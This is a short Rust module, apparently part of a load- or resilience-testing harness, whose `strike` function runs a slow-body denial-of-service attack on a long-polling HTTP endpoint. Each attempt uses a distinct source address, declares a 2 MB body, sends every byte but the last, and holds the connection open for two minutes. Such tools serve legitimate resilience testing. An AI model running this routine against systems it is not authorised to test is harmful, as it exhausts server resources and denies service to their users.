//! Bodies of long polling, of which the end never comes.

use crate::{
    http,
    settings::Result,
    tally::Tally,
    target::{Target, stranger_address},
};
use std::time::Duration;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    time::timeout,
};

const BODY_BYTES: usize = 2_000_000;

/// How long the rest of a body is kept back.
const PATIENCE: Duration = Duration::from_mins(2);

pub async fn strike(target: &Target, number: usize, tally: &Tally) -> Result<()> {
    let source = stranger_address(number);
    let Some(path) = http::open_session(target.api, source).await? else {
        tally.add_refused("no session");
        return Ok(());
    };
    let mut stream = http::connect(target.api, source).await?;
    let head = format!("POST {path} HTTP/1.1\r\nhost: x\r\ncontent-length: {BODY_BYTES}\r\n\r\n");
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&vec![b'x'; BODY_BYTES - 1]).await?;
    tally.add_done();
    let mut answer = Vec::new();
    timeout(PATIENCE, stream.read_to_end(&mut answer)).await??;
    Ok(())
}
